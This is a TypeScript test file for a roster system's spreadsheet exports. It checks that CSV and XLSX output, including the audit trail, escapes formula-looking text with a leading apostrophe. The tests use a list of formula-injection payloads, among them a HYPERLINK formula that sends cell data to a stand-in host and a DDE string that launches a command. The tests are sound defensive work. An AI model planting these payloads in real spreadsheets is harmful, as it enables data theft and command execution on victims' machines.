/**
 * Exports safe to open, read back from the files themselves: roster CSV and XLSX, and the
 * other exports through the shared helper (core/spreadsheet.ts). Formula-looking text gets a
 * leading apostrophe, NIKs are text without ="…", and the roster export still imports back unchanged.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { createHarness, type Harness } from '../testing/harness.ts';
import { demoAgreement } from '../testing/builders.ts';
import { collect } from '../testing/collect.ts';
import { csvField, guardCell, safeXlsxBuffer, unguardCell } from './spreadsheet.ts';

const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

test('guardCell / unguardCell / csvField', () => {
  for (const a of ATTACKS) {
    assert.equal(guardCell(a), `'${a}`);
    assert.equal(unguardCell(guardCell(a)), a);
  }
  assert.equal(guardCell('Siti Aminah'), 'Siti Aminah');
  assert.equal(guardCell('-'), '-', 'a lone dash is no formula');
  assert.equal(unguardCell("'biasa"), "'biasa", 'an apostrophe that is not our guard stays');
  assert.equal(csvField('=1;2'), `"'=1;2"`);
  assert.equal(csvField('a"b'), '"a""b"');
});

test('safeXlsxBuffer guards every text cell of every sheet', async () => {
  const wb = new ExcelJS.Workbook();
  const s = wb.addWorksheet('A');
  s.addRow(['=1+1', 5, -5, { richText: [{ text: '@x' }, { text: 'y' }] }]);
  wb.addWorksheet('B').addRow(['+62 812']);
  const back = new ExcelJS.Workbook();
  await back.xlsx.load((await safeXlsxBuffer(wb)) as unknown as ArrayBuffer);
  const row = back.getWorksheet('A')!.getRow(1);
  assert.deepEqual([row.getCell(1).value, row.getCell(2).value, row.getCell(3).value], ["'=1+1", 5, -5], 'numbers stay numbers');
  assert.equal((row.getCell(4).value as ExcelJS.CellRichTextValue).richText[0]!.text, "'@x");
  assert.equal(back.getWorksheet('B')!.getRow(1).getCell(1).value, "'+62 812");
  assert.ok(!row.getCell(1).formula, 'no formula in the file');
});

describe('roster export with formula-looking text', () => {
  let h: Harness;
  let agreementId: number;
  before(async () => {
    h = await createHarness({ today: '2023-01-10' });
    agreementId = await demoAgreement(h);
    const unit = await h.services.units.create(h.admin, { agreementId, code: 'DINKES', name: 'Dinas Kesehatan' });
    await h.services.roster.create(h.admin, {
      nik: '7409014508900001',
      fullName: 'Siti Aminah',
      sex: 'P',
      birthDate: '1990-08-05',
      workUnitId: unit.id,
      employmentType: 'honorer',
      startDate: '2020-01-02',
      position: ATTACKS[0],
      address: ATTACKS[1],
    });
    await h.services.roster.create(h.admin, {
      nik: '7409010101850001',
      fullName: 'La Ode Budi',
      sex: 'L',
      birthDate: '1985-01-01',
      workUnitId: unit.id,
      employmentType: 'kontrak',
      startDate: '2021-01-04',
      position: ATTACKS[2],
      address: ATTACKS[4],
    });
  });
  after(() => h.close());

  test('CSV: guarded cells, NIK as plain digits, and it imports back unchanged', async () => {
    const csv = (await collect((out) => h.services.rosterFiles.export(h.admin, { agreementId, status: 'all' }, 'csv', out))).toString('utf8');
    assert.doesNotMatch(csv, /(^|;)(=|\+|@|-\d)/m, 'no field starts a formula');
    assert.match(csv, /^7409014508900001;Siti Aminah;/m, 'NIK as text, not ="…"');
    assert.match(csv, /;"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""klik""\)";/);
    assert.match(csv, /;'\+1\+1;/);
    assert.match(csv, /;'@SUM\(1\+1\)/);
    const back = await h.services.rosterFiles.preview(h.admin, { fileName: 'ekspor.csv', content: Buffer.from(csv), agreementId });
    assert.deepEqual(back.counts, { total: 2, new: 0, changed: 0, unchanged: 2, errors: 0 });
  });

  test('XLSX: guarded text cells, NIK a text cell, and it imports back unchanged', async () => {
    const xlsx = await collect((out) => h.services.rosterFiles.export(h.admin, { agreementId, status: 'all' }, 'xlsx', out));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const header = (sheet.getRow(1).values as string[]).slice(1);
    const col = (name: string) => header.indexOf(name) + 1;
    const siti = sheet.getRow(2);
    assert.equal(siti.getCell(col('NIK')).value, '7409014508900001');
    assert.equal(siti.getCell(col('NIK')).numFmt, '@');
    assert.equal(siti.getCell(col('Jabatan')).value, `'${ATTACKS[0]}`);
    assert.equal(siti.getCell(col('Alamat')).value, `'${ATTACKS[1]}`);
    assert.equal(sheet.getRow(3).getCell(col('Jabatan')).value, "'+1+1");
    const back = await h.services.rosterFiles.preview(h.admin, { fileName: 'ekspor.xlsx', content: xlsx, agreementId });
    assert.deepEqual(back.counts, { total: 2, new: 0, changed: 0, unchanged: 2, errors: 0 });
  });

  test('audit trail XLSX: a person whose name starts a formula is written as text', async () => {
    const user = await h.login('admin', 'penyusup');
    const { id } = (await h.services.auth.findByUsername('penyusup'))!;
    await h.services.auth.updateUser(h.admin, id, { fullName: ATTACKS[0]! });
    const res = await user.request({ method: 'POST', url: '/api/v1/units', payload: { agreementId, code: 'DISDIK', name: '@SUM(1+1)' } });
    assert.equal(res.statusCode, 201, res.body);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await h.services.audit.exportXlsx(h.admin, {})) as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const whoColumn = (sheet.getRow(1).values as string[]).indexOf('Oleh');
    const who: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n > 1) who.push(row.getCell(whoColumn).value);
    });
    assert.ok(who.includes(`'${ATTACKS[0]} (user:penyusup)`), JSON.stringify(who));
    sheet.eachRow((row) =>
      row.eachCell((cell) => assert.ok(!cell.formula && !(typeof cell.value === 'string' && /^[=+@]/.test(cell.value)), String(cell.value))),
    );
  });
});
